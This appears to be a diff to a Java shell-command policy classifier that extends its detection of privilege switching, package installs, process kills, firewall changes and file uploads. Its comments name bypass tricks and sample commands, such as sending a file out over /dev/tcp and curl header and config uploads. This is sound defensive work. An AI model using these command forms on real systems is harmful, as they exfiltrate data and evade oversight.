@@ -4,6 +4,7 @@ import static dev.gatehouse.policy.shell.GitFiles.*;
 import static dev.gatehouse.policy.shell.WrittenThenRun.*;
 
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.Arrays;
 import java.util.List;
 import java.util.Locale;
@@ -93,8 +94,9 @@ public enum ShellClass {
   private static final Set<String> USER_TOOLS = Set.of("useradd", "userdel", "usermod", "adduser", "deluser", "addgroup",
       "delgroup", "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "gpasswd", "newusers", "vipw", "vigr",
       "visudo", "chsh", "chfn", "lusermod", "luseradd", "luserdel", "pw", "smbpasswd", "pwconv", "pwunconv", "grpconv");
+  // gosu, su-exec (containers' sudo), daemontools' setuidgid, s6's: each runs its command as the user it names (attack 17cm)
   private static final Set<String> SUDO_NAMES = Set.of("sudo", "doas", "pkexec", "su", "runuser", "sudoedit", "run0",
-      "ksu", "calife", "super");
+      "ksu", "calife", "super", "gosu", "su-exec", "setuidgid", "s6-setuidgid", "s6-applyuidgid", "envuidgid");
   private static final Set<String> WRITERS = Set.of("tee", "cp", "mv", "install", "ln", "dd", "truncate", "sed", "perl",
       "rsync", "touch", "chmod", "chown", "chattr", "rm", "shred", "unlink", "vi", "vim", "nano", "ed", "ex", "emacs",
       "sponge", "patch", "tar", "unzip", "cpio");
@@ -146,7 +148,7 @@ public enum ShellClass {
       case FORK_BOMB -> false;
       case HISTORY_TAMPER -> historyTamper(c);
       case AUDIT_TAMPER -> auditTamper(c);
-      case SUDO -> SUDO_NAMES.contains(c.name());
+      case SUDO -> SUDO_NAMES.contains(c.name()) || runsAsOtherUser(c);
       case PACKAGE_CHANGE -> packageChange(c);
       case SERVICE_CHANGE -> serviceChange(c);
       case PROCESS_KILL -> processKill(c);
@@ -171,6 +173,8 @@ public enum ShellClass {
   Optional<String> write(ShellReading.Redirect w) {
     String p = w.target().value();
     boolean hit = this == INTERPRETER_INLINE ? gitConfigFile(p) || startupFile(w.target()) : writesPath(p);
+    // bash opens /dev/tcp/HOST/PORT and /dev/udp/… itself: cat F > /dev/tcp/h/1 sends F (attack 17cm, proven)
+    hit = hit || this == REMOTE_COPY && Regexes.matches(p, "(?s)/dev/(tcp|udp)/.*");
     return hit ? Optional.of(w.text()) : Optional.empty();
   }
 
@@ -1347,6 +1351,28 @@ public enum ShellClass {
     return false;
   }
 
+  /**
+   * Programs that run their command as another user or group by an option, as sudo does (attack
+   * 17cm): setpriv's {@code --reuid}/{@code --ruid}/{@code --euid}/{@code --regid}/{@code
+   * --rgid}/{@code --egid}/{@code --groups}/{@code --init-groups} (any prefix: util-linux reads them
+   * with getopt_long), capsh's {@code --user=}/{@code --uid=}/{@code --gid=}/{@code --groups=},
+   * chroot's {@code --userspec}/{@code --groups}, start-stop-daemon's {@code -c}/{@code --chuid},
+   * chpst's {@code -u}/{@code -U}, and sg (its command runs with the group it names).
+   */
+  private static boolean runsAsOtherUser(ShellCommand c) {
+    List<String> a = c.argValues();
+    return switch (c.name()) {
+      case "setpriv" -> a.stream().anyMatch(v -> java.util.stream.Stream.of("reuid", "ruid", "euid", "regid", "rgid", "egid", "groups",
+          "init-groups").anyMatch(o -> Wrappers.longOption(v, o)));
+      case "capsh" -> a.stream().anyMatch(v -> Regexes.matches(v, "--(user|uid|gid|groups)=.*"));
+      case "chroot" -> a.stream().anyMatch(v -> Wrappers.longOption(v, "userspec") || Wrappers.longOption(v, "groups"));
+      case "start-stop-daemon" -> a.stream().anyMatch(v -> Regexes.matches(v, "-c.*") || Wrappers.longOption(v, "chuid"));
+      case "chpst" -> a.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[uU].*"));
+      case "sg" -> true;
+      default -> false;
+    };
+  }
+
   private static boolean packageChange(ShellCommand c) {
     String n = c.name();
     if (Regexes.matches(n, "python[0-9.]*|pypy[0-9.]*")) {
@@ -1363,18 +1389,32 @@ public enum ShellClass {
       case "apt", "apt-get", "aptitude", "nala" -> Set.of("install", "remove", "purge", "upgrade", "dist-upgrade",
           "full-upgrade", "autoremove", "autopurge", "reinstall", "build-dep", "markauto", "unmarkauto", "safe-upgrade",
           "satisfy", "dselect-upgrade");
+      // dnf's aliases (in, rm, up, rei, dg, dsync…: dnf(8) "Commands"), its repositories (config-manager, copr: attack 17cm)
       case "yum", "dnf", "microdnf", "tdnf", "dnf5" -> Set.of("install", "remove", "erase", "update", "upgrade", "downgrade",
           "reinstall", "autoremove", "swap", "group", "groupinstall", "groupremove", "localinstall", "update-minimal",
-          "distro-sync", "module", "upgrade-minimal", "mark", "history");
+          "distro-sync", "module", "upgrade-minimal", "mark", "history", "in", "rm", "up", "rei", "dg", "dsync",
+          "distrosync", "distribution-synchronization", "upgrade-to", "update-to", "localupdate", "groupupdate",
+          "grouperase", "builddep");
       case "zypper" -> Set.of("in", "install", "rm", "remove", "up", "update", "dup", "dist-upgrade", "patch", "si",
           "source-install", "ar", "addrepo", "rr", "removerepo");
       case "apk" -> Set.of("add", "del", "upgrade", "fix");
       case "snap" -> Set.of("install", "remove", "refresh", "revert", "disable", "enable");
       case "flatpak" -> Set.of("install", "uninstall", "update", "remove");
       case "pip", "pip3" -> PIP_VERBS;
-      case "pipx", "uv" -> Set.of("install", "uninstall");
-      case "gem" -> Set.of("install", "uninstall", "update");
-      case "npm", "pnpm", "yarn" -> Set.of("install", "i", "uninstall", "remove", "update", "add");
+      // pipx's other verbs install too; uv pip install / uv tool install (attack 17cm)
+      case "pipx" -> Set.of("install", "uninstall", "inject", "upgrade", "upgrade-all", "reinstall", "reinstall-all",
+          "uninject", "uninstall-all", "install-all");
+      case "uv" -> Set.of("install", "uninstall");
+      case "cargo" -> c.argValues().contains("--list") ? Set.of("uninstall") : Set.of("install", "uninstall");
+      case "go" -> Set.of("install");
+      // RubyGems takes a command by any unambiguous prefix (gem i, gem ins, gem upd) and has aliases (attack 17cm)
+      case "gem" -> Set.of("install", "uninstall", "update", "i", "in", "ins", "inst", "insta", "instal", "un", "uni", "unin",
+          "unins", "uninst", "uninsta", "uninstal", "upd", "upda", "updat");
+      // npm's aliases (npm help install: i, in, ins, inst, insta, instal, isnt…; rm, r, un, unlink; up,
+      // upgrade, udpate: attack 17cm), link/ln (a symlink in the global folder)
+      case "npm", "pnpm", "yarn", "bun" -> Set.of("install", "i", "uninstall", "remove", "update", "add", "in", "ins",
+          "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "rm", "r", "un", "unlink", "up", "upgrade",
+          "udpate", "link", "ln");
       case "brew", "port", "pkg", "pkg_add", "emerge", "nix-env", "xbps-install", "xbps-remove", "eopkg", "slackpkg",
           "swupd", "conda", "mamba" -> null;
       default -> Set.of();
@@ -1383,8 +1423,27 @@ public enum ShellClass {
       return true;
     }
     if (!verbs.isEmpty()) {
-      if (Set.of("npm", "pnpm", "yarn").contains(n)) {
-        return firstOperandIn(c, verbs) && (c.argValues().contains("-g") || c.argValues().contains("--global"));
+      if (Set.of("npm", "pnpm", "yarn", "bun").contains(n)) {
+        // global by -g, --global[=true], --location=global, --location global (npm 8+), and yarn global add (attack 17cm)
+        List<String> a = c.argValues();
+        boolean global = a.contains("-g") || a.stream().anyMatch(v -> Regexes.matches(v, "--global(=true)?|-g=true|--location=global"))
+            || Collections.indexOfSubList(a, List.of("--location", "global")) >= 0;
+        List<Word> ops = operands(c);
+        boolean verb = ops.stream().limit(2).anyMatch(w -> verbs.contains(w.value()));
+        return verb && global || n.equals("yarn") && firstOperandIn(c, Set.of("global"));
+      }
+      if (n.equals("uv")) {
+        return firstOperandIn(c, Set.of("pip", "tool")) && operands(c).size() > 1
+            && Set.of("install", "uninstall", "sync").contains(operands(c).get(1).value()) || firstOperandIn(c, verbs);
+      }
+      if (n.equals("dnf") || n.equals("yum") || n.equals("dnf5") || n.equals("microdnf") || n.equals("tdnf") || n.equals("pip")) {
+        // options with a value before the verb: dnf --enablerepo epel install, pip --proxy P install (attack 17cm)
+        String verb = verbAfterOptions(c.argValues(), n.equals("pip") ? PIP_WITH_ARG : DNF_WITH_ARG);
+        List<Word> ops = operands(c);
+        return firstOperandIn(c, verbs) || verbs.contains(verb)
+            || !n.equals("pip") && verb.equals("config-manager") && c.argValues().stream()
+                .anyMatch(v -> Regexes.matches(v, "--(add-repo|addrepo|set-enabled|set-disabled|enable|disable|save|setopt).*|addrepo|setopt|setvar"))
+            || !n.equals("pip") && verb.equals("copr") && ops.stream().anyMatch(w -> Set.of("enable", "disable", "remove").contains(w.value()));
       }
       if (Set.of("apt", "apt-get", "aptitude", "nala").contains(n)) {
         return firstOperandIn(c, verbs) || verbs.contains(aptVerb(c));
@@ -1397,7 +1456,9 @@ public enum ShellClass {
               "--clear-selections", "--force-all").contains(v) || v.startsWith("--force"));
       case "rpm" -> flag(c, 'i') && !flag(c, 'q') || flag(c, 'U') || flag(c, 'F') || flag(c, 'e')
           || c.argValues().stream().anyMatch(v -> Set.of("--install", "--upgrade", "--freshen", "--erase", "--reinstall").contains(v));
-      case "pacman", "yay", "paru" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-[SRU][A-Za-z]*|--(sync|remove|upgrade)"))
+      // getopt_long: --sy, --rem, --upg are --sync, --remove, --upgrade (attack 17cm)
+      case "pacman", "yay", "paru" -> c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-[SRU][A-Za-z]*|--(sync|remove|upgrade)")
+          || Wrappers.longOption(v, "sync", "s") || Wrappers.longOption(v, "remove", "r", "re") || Wrappers.longOption(v, "upgrade", "u"))
           && !c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-S[a-z]*[sil][a-z]*") && !v.contains("y") && !v.contains("u"));
       case "dpkg-reconfigure", "update-alternatives", "alternatives", "add-apt-repository", "apt-key", "rpmkeys" ->
           !c.argValues().contains("--list") && !c.argValues().contains("--display") && !c.argValues().contains("--query");
@@ -1415,6 +1476,35 @@ public enum ShellClass {
         i++;
       } else if (!v.startsWith("-")) {
         return v.toLowerCase(Locale.ROOT);
+      }
+    }
+    return "";
+  }
+
+  /** pip's general options that take the next word as their value (optparse also takes a unique prefix of each). */
+  private static final Set<String> PIP_WITH_ARG = Set.of("--python", "--log", "--log-file", "--proxy", "--retries",
+      "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--cache-dir", "--use-feature",
+      "--use-deprecated", "--keyring-provider", "--resume-retries");
+
+  /** dnf's and yum's options that take the next word as their value. */
+  private static final Set<String> DNF_WITH_ARG = Set.of("-c", "--config", "-d", "--debuglevel", "-e", "--errorlevel",
+      "-x", "--exclude", "--releasever", "--installroot", "--enablerepo", "--disablerepo", "--repo", "--repoid",
+      "--setopt", "--rpmverbosity", "--color", "--destdir", "--downloaddir", "--comment", "--forcearch", "--repofrompath",
+      "--disableplugin", "--enableplugin", "--advisory", "--advisories", "--bz", "--cve", "--sec-severity", "--secseverity");
+
+  /** The first word that is neither an option nor the value of one in {@code withArg} (a long one by its unique prefix). */
+  private static String verbAfterOptions(List<String> a, Set<String> withArg) {
+    for (int i = 0; i < a.size(); i++) {
+      String v = a.get(i);
+      if (v.equals("--")) {
+        return i + 1 < a.size() ? a.get(i + 1).toLowerCase(Locale.ROOT) : "";
+      }
+      if (!v.startsWith("-") || v.equals("-")) {
+        return v.toLowerCase(Locale.ROOT);
+      }
+      if (!v.contains("=") && (withArg.contains(v)
+          || v.startsWith("--") && v.length() > 3 && withArg.stream().anyMatch(o -> o.startsWith("--") && o.startsWith(v)))) {
+        i++;
       }
     }
     return "";
@@ -1495,8 +1585,10 @@ public enum ShellClass {
               && !(n.equals("rc-update") && (firstOperandIn(c, Set.of("show")) || c.args().isEmpty()));
       case "initctl", "start", "stop", "restart", "reload" -> !n.equals("initctl")
           || firstOperandIn(c, Set.of("start", "stop", "restart", "reload", "emit", "reload-configuration"));
-      case "supervisorctl" -> firstOperandIn(c, Set.of("start", "stop", "restart", "reload", "update", "shutdown",
-          "remove", "add", "signal", "clear"));
+      // -c FILE, -s URL, -u USER, -p PASS, -r FILE take the next word (supervisorctl -c F restart all: attack 17cm)
+      case "supervisorctl" -> Set.of("start", "stop", "restart", "reload", "update", "shutdown", "remove", "add", "signal",
+          "clear").contains(verbAfterOptions(c.argValues(), Set.of("-c", "--configuration", "-s", "--serverurl", "-u",
+              "--username", "-p", "--password", "-r", "--history-file")));
       case "launchctl" -> firstOperandIn(c, Set.of("load", "unload", "bootstrap", "bootout", "kickstart", "stop", "start",
           "enable", "disable", "remove", "submit"));
       case "sv", "s6-svc", "runsv" -> true;
@@ -1505,6 +1597,24 @@ public enum ShellClass {
   }
 
   private static boolean processKill(ShellCommand c) {
+    List<String> args = c.argValues();
+    switch (c.name()) {
+      // start-stop-daemon -K/--stop signals every process that matches (attack 17cm)
+      case "start-stop-daemon" -> {
+        if (args.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*K.*") || Wrappers.longOption(v, "stop", "s", "st"))) {
+          return true;
+        }
+      }
+      // loginctl's kill-user/kill-session signal a user's or session's processes; terminate-* end them (attack 17cm)
+      case "loginctl" -> {
+        return operands(c).stream().anyMatch(w -> Regexes.matches(w.value(), "kill-(user|session)|terminate-(user|session|seat)"));
+      }
+      // ss -K/--kill closes the sockets it lists (attack 17cm)
+      case "ss" -> {
+        return args.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*K.*") || Wrappers.longOption(v, "kill", "k"));
+      }
+      default -> { }
+    }
     if (c.name().equals("fuser")) {
       // fuser -k (also in a bundle, -km, -ki) kills the processes using the files or ports it names
       return c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-[^-]*k.*") || v.equals("--kill"));
@@ -1513,28 +1623,56 @@ public enum ShellClass {
       return false;
     }
     List<String> a = c.argValues();
-    if (c.name().equals("kill") && (a.contains("-l") || a.contains("-L") || a.contains("--list") || a.contains("-0")
-        || a.contains("--table"))) {
+    if (c.name().equals("kill") && killOnlyListsOrTests(a)) {
       return false;
     }
     // Any target counts, a negative one too: kill -9 -1 signals every process it may.
     return !(a.contains("--help") || a.contains("-V") || a.contains("--version")) && !a.isEmpty();
   }
 
+  /**
+   * kill's listing ({@code -l}, {@code -L}, {@code --list}, {@code --table}) and signal 0 (a test
+   * that sends nothing) only where kill reads them as options: at the start, before any process.
+   * After a process they are operands, and the signal still goes: bash prints "-l: arguments must
+   * be process or job IDs" for {@code kill -9 PID -l} and kills PID all the same, and {@code kill
+   * -9 PID -0} signals PID and then process group 0, its own (attack 17cm, proven).
+   */
+  private static boolean killOnlyListsOrTests(List<String> a) {
+    if (a.isEmpty()) {
+      return false;
+    }
+    if (Set.of("-l", "-L", "--list", "--table").contains(a.get(0))) {
+      return true;
+    }
+    String signal = a.get(0).equals("-s") || a.get(0).equals("-n") ? (a.size() > 1 ? a.get(1) : "")
+        : a.get(0).startsWith("-") ? a.get(0).substring(1) : "";
+    return signal.equals("0");
+  }
+
   private static boolean firewallChange(ShellCommand c) {
     String n = c.name();
     List<String> a = c.argValues();
     if (Regexes.matches(n, "(ip6?|eb|arp)tables(-legacy|-nft)?")) {
+      // getopt_long: a command letter in a bundle after flags (-wF, -vF, -nvZ), a long option by any
+      // unambiguous prefix (--app, --ins, --fl, --pol: attack 17cm)
       return a.stream().anyMatch(v -> Regexes.matches(v, "-[AIDRFXPNEZ][A-Za-z]*|--(append|insert|delete|replace|flush|delete-chain"
-          + "|policy|new-chain|rename-chain|zero)(=.*)?"));
+          + "|policy|new-chain|rename-chain|zero)(=.*)?") || iptablesCommandInBundle(v)
+          || java.util.stream.Stream.of("append", "insert", "replace", "flush", "delete-chain", "policy", "new-chain", "rename-chain", "zero")
+              .anyMatch(o -> Wrappers.longOption(v, o, "in", "i", "n", "f", "p", "r")) || Wrappers.longOption(v, "delete", "d", "de"));
     }
     if (Regexes.matches(n, "(ip6?|eb|arp)tables(-legacy|-nft)?-restore|iptables-apply|ipset|conntrack")) {
       return !(n.equals("ipset") && firstOperandIn(c, Set.of("list", "save", "test", "-L", "help", "version")))
           && !(n.equals("conntrack") && (flag(c, 'L') || a.contains("--dump") || flag(c, 'E') || a.contains("--event")));
     }
     if (n.equals("nft")) {
-      return flag(c, 'f') || a.contains("--file") || firstOperandIn(c, Set.of("add", "insert", "delete", "flush",
-          "create", "replace", "reset", "destroy", "rename", "-f"));
+      // nft joins its words into one command: nft 'flush ruleset' is nft flush ruleset; -i reads
+      // its commands at a prompt, unseen (attack 17cm)
+      List<Word> ops = operands(c);
+      String first = ops.isEmpty() ? "" : ops.get(0).value().strip().split("\\s+")[0];
+      return flag(c, 'f') || flag(c, 'i') || a.stream().anyMatch(v -> Wrappers.longOption(v, "file")
+          || Wrappers.longOption(v, "interactive")) || Set.of("add", "insert", "delete", "flush",
+          "create", "replace", "reset", "destroy", "rename", "-f").contains(first.toLowerCase(Locale.ROOT))
+          || ops.stream().anyMatch(w -> Regexes.matches(w.value(), "(?s).*[;\\n].*"));
     }
     if (n.equals("ufw")) {
       return firstOperandIn(c, Set.of("allow", "deny", "reject", "limit", "delete", "insert", "enable", "disable",
@@ -1568,6 +1706,23 @@ public enum ShellClass {
     // tc, like ip, takes a verb by any prefix (tc qdisc ad …), and -b/-batch FILE runs its lines
     return n.equals("tc") && a.stream().anyMatch(v -> IP_CHANGE_VERBS.stream().anyMatch(x -> !v.isEmpty() && x.startsWith(v))
         || v.equals("link") || Regexes.matches(v, "-b|-ba|-bat|-batc|-batch|--?force"));
+  }
+
+  /** iptables' short bundle ({@code -wF}) holding a command letter before any letter that takes a value. */
+  private static boolean iptablesCommandInBundle(String v) {
+    if (v.length() < 3 || v.charAt(0) != '-' || v.charAt(1) == '-') {
+      return false;
+    }
+    for (int i = 1; i < v.length(); i++) {
+      char ch = v.charAt(i);
+      if ("AIDRFXPNEZ".indexOf(ch) >= 0) {
+        return true;
+      }
+      if ("tjiosdpmgcWL".indexOf(ch) >= 0) {
+        return false;
+      }
+    }
+    return false;
   }
 
   /**
@@ -3857,6 +4012,18 @@ public enum ShellClass {
           if (Regexes.matches(v, "-d|--data|--data-binary|--data-raw|--data-urlencode|--json") && next.contains("@")) {
             return true;
           }
+          // --data-ascii is --data; -H @FILE sends the file's lines as headers, --url-query @FILE
+          // and --variable NAME@FILE its content; -K/--config reads options (-T, -d @) from a file
+          // the line does not show (attack 17cm)
+          String value = v.contains("=") && v.startsWith("--") ? v.substring(v.indexOf('=') + 1) : next;
+          if (Wrappers.longOption(v, "data-ascii", "d", "da", "dat", "data", "data-") && value.startsWith("@")
+              || Wrappers.longOption(v, "header", "h", "he") && value.startsWith("@")
+              || curlShort(v, 'H') && (v.endsWith("H") ? next : v.substring(v.indexOf('H') + 1)).startsWith("@")
+              || (Wrappers.longOption(v, "url-query", "u", "ur", "url") || Wrappers.longOption(v, "variable", "v"))
+                  && Regexes.matches(value, "(?s)\\+?[^=@]*@.*")
+              || curlShort(v, 'K') || Wrappers.longOption(v, "config", "c", "co")) {
+            return true;
+          }
           if (Regexes.matches(v, "(-d|--data(-binary|-urlencode)?=?|--json=?)@.*") || Regexes.matches(v, "--data(-binary|-urlencode)?=.*@.*")) {
             return true;
           }
@@ -3869,10 +4036,15 @@ public enum ShellClass {
         return false;
       }
       case "wget", "wget2" -> {
-        return a.stream().anyMatch(v -> v.startsWith("--post-file") || v.startsWith("--body-file") || v.startsWith("--ftp-user"));
+        // getopt_long: any unambiguous prefix (--post-f=FILE, --body-f=FILE: attack 17cm)
+        return a.stream().anyMatch(v -> v.startsWith("--post-file") || v.startsWith("--body-file") || v.startsWith("--ftp-user")
+            || Wrappers.longOption(v, "post-file", "p", "po", "pos", "post", "post-") || Wrappers.longOption(v, "body-file", "b", "bo", "bod", "body", "body-"));
       }
       case "aws" -> {
-        return a.size() >= 2 && a.get(0).equals("s3") && Set.of("cp", "sync", "mv").contains(a.get(1));
+        // aws's global options come before the service (aws --profile P s3 cp …: attack 17cm); s3api put-object --body FILE uploads
+        int s3 = a.indexOf("s3");
+        return s3 >= 0 && s3 + 1 < a.size() && Set.of("cp", "sync", "mv").contains(a.get(s3 + 1))
+            || a.contains("s3api") && a.stream().anyMatch(v -> Set.of("put-object", "upload-part").contains(v));
       }
       case "gsutil", "gcloud" -> {
         return a.stream().anyMatch(v -> Set.of("cp", "rsync", "mv").contains(v)) && a.stream().anyMatch(v -> v.startsWith("gs://"));
